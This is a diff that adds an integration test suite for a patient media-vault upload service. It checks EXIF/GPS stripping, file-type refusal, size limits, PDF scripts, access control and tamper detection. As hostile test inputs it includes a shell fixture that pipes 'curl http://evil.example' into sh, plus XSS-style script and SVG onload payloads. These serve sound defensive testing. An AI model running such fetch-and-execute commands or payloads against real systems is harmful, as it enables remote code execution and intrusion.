@@ -1,0 +1,308 @@
+// Intake against the real FerretDB, Kafka and Azurite: what is stored, what is refused and why,
+// who can read it. Bad input from the issue: polyglots, renamed scripts, SVG, a 30000×30000 PNG,
+// truncated and empty files, oversized streams, too many files, GPS in EXIF, tampered bytes,
+// another organisation's ids.
+import { createHash } from 'node:crypto';
+import { Code, ConnectError } from '@connectrpc/connect';
+import exifr from 'exifr';
+import {
+  Disposition,
+  PhotoQuality_Verdict,
+} from '@cairn/contracts/cairn/media_vault/v1/media_vault_pb';
+import {
+  ObjectRejectedSchema,
+  ObjectStoredSchema,
+  ObjectAccessedSchema,
+  RejectionReason,
+} from '@cairn/contracts/cairn/media_vault/events/v1/events_pb';
+import { EventLog } from './support/events';
+import {
+  jpegHtmlPolyglot,
+  pdfWithJavaScript,
+  photoWithGps,
+  plainPdf,
+  pngBombHeader,
+} from './support/fixtures';
+import {
+  OTHER_ORG,
+  ORG,
+  PATIENT,
+  OTHER_PATIENT,
+  startVaultHarness,
+  type VaultHarness,
+} from './support/vault-harness';
+
+async function refusal(promise: Promise<unknown>): Promise<ConnectError> {
+  try {
+    await promise;
+  } catch (error) {
+    return ConnectError.from(error);
+  }
+  throw new Error('expected the call to fail');
+}
+
+let group = 0;
+const nextGroup = () => `response-${++group}`;
+
+describe('media-vault intake and access', () => {
+  let h: VaultHarness;
+  const log = new EventLog();
+  let photo: Buffer;
+
+  beforeAll(async () => {
+    h = await startVaultHarness();
+    await log.start(h.eventsTopic);
+    photo = await photoWithGps();
+  });
+  afterAll(async () => {
+    await log.stop();
+    await h?.stop();
+  });
+
+  it('stores a photo re-encoded without GPS or any EXIF, with hashes, quality and a thumbnail', async () => {
+    expect(await exifr.gps(photo)).toBeDefined();
+    const stored = await h.upload(photo, { groupId: nextGroup() });
+    expect(stored.mediaType).toBe('image/jpeg');
+    expect(stored.thumbnailAvailable).toBe(true);
+    expect(Buffer.from(stored.originalSha256)).toEqual(createHash('sha256').update(photo).digest());
+    expect(stored.quality?.verdict).toBeDefined();
+    expect(stored.quality?.resolutionMegapixels).toBeCloseTo(1.08, 1);
+
+    const { header, bytes } = await h.read(stored.objectId);
+    expect(header.disposition).toBe(Disposition.INLINE);
+    expect(Buffer.from(header.sha256)).toEqual(createHash('sha256').update(bytes).digest());
+    expect(Buffer.from(stored.storedSha256)).toEqual(Buffer.from(header.sha256));
+    expect(await exifr.gps(bytes)).toBeUndefined();
+    expect(
+      await exifr.parse(bytes, { tiff: true, xmp: true, iptc: true, gps: true }),
+    ).toBeUndefined();
+    expect(bytes.includes(Buffer.from('CairnTestCam'))).toBe(false);
+
+    await log.waitFor((e) => e.is(ObjectStoredSchema) && e.message.objectId === stored.objectId);
+    const accessed = await log.waitFor(
+      (e) => e.is(ObjectAccessedSchema) && e.message.objectId === stored.objectId,
+    );
+    expect(accessed[0]!.actor?.kind).toBe('staff');
+  });
+
+  it('warns about a blurred photo with plain advice', async () => {
+    const sharp = (await import('sharp')).default;
+    const blurred = await sharp(photo).blur(15).toBuffer();
+    const stored = await h.upload(blurred, { groupId: nextGroup() });
+    expect(stored.quality?.verdict).toBe(PhotoQuality_Verdict.POOR);
+    expect(stored.quality?.advice.join(' ')).toMatch(/blurred/);
+  });
+
+  it('accepts PNG, WebP and AVIF-coded HEIF, and explains an HEVC HEIC it cannot open', async () => {
+    const sharp = (await import('sharp')).default;
+    const small = sharp(photo).resize(400);
+    const cases: Array<[Buffer, string]> = [
+      [await small.clone().png().toBuffer(), 'image/png'],
+      [await small.clone().webp().toBuffer(), 'image/webp'],
+      [await small.clone().heif({ compression: 'av1' }).toBuffer(), 'image/jpeg'],
+    ];
+    for (const [bytes, stored] of cases) {
+      const object = await h.upload(bytes, { groupId: nextGroup() });
+      expect(object.mediaType).toBe(stored);
+    }
+    const heic = Buffer.concat([
+      Buffer.from('\x00\x00\x00\x18ftypheic\x00\x00\x00\x00', 'latin1'),
+      Buffer.alloc(500, 7),
+    ]);
+    const error = await refusal(
+      h.upload(heic, { groupId: nextGroup(), filename: 'IMG_0001.HEIC' }),
+    );
+    expect(error.code).toBe(Code.InvalidArgument);
+    expect(error.rawMessage).toMatch(/Most Compatible/);
+  });
+
+  it('neutralises a JPEG/HTML polyglot: the stored image holds no markup', async () => {
+    const stored = await h.upload(await jpegHtmlPolyglot(), { groupId: nextGroup() });
+    const { bytes } = await h.read(stored.objectId);
+    expect(bytes.includes(Buffer.from('<script'))).toBe(false);
+    expect(bytes.includes(Buffer.from('<html'))).toBe(false);
+  });
+
+  it.each([
+    [
+      'HTML that embeds a JPEG',
+      Buffer.concat([Buffer.from('<html><body><script>alert(1)</script>'), Buffer.alloc(100)]),
+    ],
+    [
+      'a shell script named photo.jpg',
+      Buffer.from('#!/bin/sh\ncurl http://evil.example | sh\n'.repeat(5)),
+    ],
+    [
+      'an SVG',
+      Buffer.from(
+        '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect width="10" height="10"/></svg>',
+      ),
+    ],
+    ['a ZIP archive', Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), Buffer.alloc(200)])],
+  ])('refuses %s, naming what is accepted', async (_, bytes) => {
+    const groupId = nextGroup();
+    const error = await refusal(
+      h.upload(bytes, { groupId, filename: 'photo.jpg', declaredType: 'image/jpeg' }),
+    );
+    expect(error.code).toBe(Code.InvalidArgument);
+    expect(error.rawMessage).toMatch(/JPEG, PNG, WebP or HEIC\) or a PDF/);
+    const rejected = await log.waitFor(
+      (e) => e.is(ObjectRejectedSchema) && e.message.groupId === groupId,
+    );
+    expect((rejected[0]!.message as unknown as { reason: RejectionReason }).reason).toBe(
+      RejectionReason.TYPE_NOT_ALLOWED,
+    );
+  });
+
+  it('refuses a 30000×30000 PNG from its header, before decoding', async () => {
+    const error = await refusal(
+      h.upload(pngBombHeader(), { groupId: nextGroup(), filename: 'bomb.png' }),
+    );
+    expect(error.code).toBe(Code.InvalidArgument);
+    expect(error.rawMessage).toMatch(/too large in width and height/);
+  });
+
+  it('refuses a truncated JPEG and an empty file', async () => {
+    const truncated = await refusal(
+      h.upload(photo.subarray(0, Math.floor(photo.length / 2)), { groupId: nextGroup() }),
+    );
+    expect(truncated.code).toBe(Code.InvalidArgument);
+    expect(truncated.rawMessage).toMatch(/damaged or incomplete/);
+    const empty = await refusal(h.upload(Buffer.alloc(0), { groupId: nextGroup() }));
+    expect(empty.code).toBe(Code.InvalidArgument);
+    expect(empty.rawMessage).toMatch(/empty/);
+  });
+
+  it('stops an oversized stream as soon as it passes the limit, and a declared size at once', async () => {
+    const big = Buffer.concat([photo.subarray(0, 4), Buffer.alloc(20_000_001)]);
+    const error = await refusal(
+      h.upload(big, { groupId: nextGroup() }, { chunkSize: 1024 * 1024 }),
+    );
+    expect(error.code).toBe(Code.ResourceExhausted);
+    expect(error.rawMessage).toMatch(/20 MB or smaller/);
+    const declared = await refusal(
+      h.upload(photo, { groupId: nextGroup(), declaredSize: 25_000_000n }),
+    );
+    expect(declared.code).toBe(Code.ResourceExhausted);
+  });
+
+  it('accepts five files per response and refuses the sixth; deleting one frees a place', async () => {
+    const groupId = nextGroup();
+    const small = await (await import('sharp')).default(photo).resize(300).jpeg().toBuffer();
+    const stored = [];
+    for (let i = 0; i < 5; i++) stored.push(await h.upload(small, { groupId }));
+    const sixth = await refusal(h.upload(small, { groupId }));
+    expect(sixth.code).toBe(Code.ResourceExhausted);
+    expect(sixth.rawMessage).toMatch(/up to 5 files/);
+
+    await h.client.deleteObject(
+      { objectId: stored[0]!.objectId, reason: 'patient removed it', organisation: ORG, groupId },
+      h.service(),
+    );
+    const listed = await h.client.listObjects({ groupId }, await h.staff());
+    expect(listed.objects.map((o) => o.objectId)).toEqual(stored.slice(1).map((o) => o.objectId));
+    await h.upload(small, { groupId });
+  });
+
+  it('answers a retried upload with the object stored the first time', async () => {
+    const groupId = nextGroup();
+    const first = await h.upload(photo, { groupId, clientUploadId: 'attempt-1' });
+    const retry = await h.upload(photo, { groupId, clientUploadId: 'attempt-1' });
+    expect(retry.objectId).toBe(first.objectId);
+    const other = await h.upload(photo, { groupId, clientUploadId: 'attempt-2' });
+    expect(other.objectId).not.toBe(first.objectId);
+    const listed = await h.client.listObjects({ groupId }, await h.staff());
+    expect(listed.objects).toHaveLength(2);
+  });
+
+  it('refuses a response id already used for another patient', async () => {
+    const groupId = nextGroup();
+    await h.upload(photo, { groupId });
+    const error = await refusal(h.upload(photo, { groupId, nhsNumber: OTHER_PATIENT }));
+    expect(error.code).toBe(Code.PermissionDenied);
+  });
+
+  it('accepts a plain PDF, always served as an attachment, and refuses one with JavaScript', async () => {
+    const pdf = await h.upload(await plainPdf(), { groupId: nextGroup(), filename: 'letter.pdf' });
+    expect(pdf.mediaType).toBe('application/pdf');
+    expect(pdf.pageCount).toBe(1);
+    const { header } = await h.read(pdf.objectId, { download: false });
+    expect(header.disposition).toBe(Disposition.ATTACHMENT);
+
+    const error = await refusal(h.upload(await pdfWithJavaScript(), { groupId: nextGroup() }));
+    expect(error.code).toBe(Code.InvalidArgument);
+    expect(error.rawMessage).toMatch(/scripts or attached files/);
+  });
+
+  it('does not show another organisation’s object, nor to staff without a clinical role', async () => {
+    const stored = await h.upload(photo, { groupId: nextGroup() });
+    const other = await refusal(h.read(stored.objectId, { claims: { org: OTHER_ORG } }));
+    expect(other.code).toBe(Code.NotFound);
+    const thumb = await refusal(
+      h.client.getThumbnail({ objectId: stored.objectId }, await h.staff({ org: OTHER_ORG })),
+    );
+    expect(thumb.code).toBe(Code.NotFound);
+    const admin = await refusal(h.read(stored.objectId, { claims: { roles: ['administrator'] } }));
+    expect(admin.code).toBe(Code.PermissionDenied);
+    const noCredential = await refusal(h.client.listObjects({ groupId: stored.groupId }));
+    expect(noCredential.code).toBe(Code.Unauthenticated);
+    // The gateway's credential uploads; it cannot read content.
+    const asService = await refusal(
+      (async () => {
+        for await (const _ of h.client.readObject({ objectId: stored.objectId }, h.service()))
+          void _;
+      })(),
+    );
+    expect(asService.code).toBe(Code.PermissionDenied);
+  });
+
+  it('refuses uploads without the gateway credential or with a wrong one', async () => {
+    const staff = await refusal(
+      h.upload(photo, { groupId: nextGroup() }, { headers: (await h.staff()).headers }),
+    );
+    expect(staff.code).toBe(Code.PermissionDenied);
+    const forged = await refusal(
+      h.upload(
+        photo,
+        { groupId: nextGroup() },
+        { headers: { authorization: `CairnService ${'x'.repeat(43)}` } },
+      ),
+    );
+    expect(forged.code).toBe(Code.Unauthenticated);
+  });
+
+  it('fails loudly when a stored ciphertext byte is flipped', async () => {
+    const stored = await h.upload(photo, { groupId: nextGroup() });
+    const doc = await h.vault.db.models.objects.findById(stored.objectId).lean().exec();
+    const blob = await h.vault.blobs.get(doc!.content.blobName);
+    blob[Math.floor(blob.length / 2)] ^= 0x01;
+    await h.vault.blobs.overwriteForTest(doc!.content.blobName, blob);
+    const error = await refusal(h.read(stored.objectId));
+    expect(error.code).toBe(Code.Internal);
+  });
+
+  it('hides a logically deleted object but keeps it for audit', async () => {
+    const stored = await h.upload(photo, { groupId: nextGroup() });
+    await h.client.deleteObject(
+      { objectId: stored.objectId, reason: 'wrong patient' },
+      await h.staff(),
+    );
+    expect((await refusal(h.read(stored.objectId))).code).toBe(Code.NotFound);
+    const doc = await h.vault.db.models.objects.findById(stored.objectId).lean().exec();
+    expect(doc?.deleted?.reason).toBe('wrong patient');
+    expect(await h.vault.blobs.get(doc!.content.blobName)).toBeDefined();
+    const noReason = await refusal(
+      h.client.deleteObject({ objectId: stored.objectId, reason: ' ' }, await h.staff()),
+    );
+    expect(noReason.code).toBe(Code.InvalidArgument);
+  });
+
+  it('keeps patients apart: the same photo for two patients gets two keys', async () => {
+    const a = await h.upload(photo, { groupId: nextGroup(), nhsNumber: PATIENT });
+    const b = await h.upload(photo, { groupId: nextGroup(), nhsNumber: OTHER_PATIENT });
+    const [da, db] = await Promise.all(
+      [a, b].map((o) => h.vault.db.models.objects.findById(o.objectId).lean().exec()),
+    );
+    expect(da!.patientKeyId).not.toBe(db!.patientKeyId);
+  });
+});
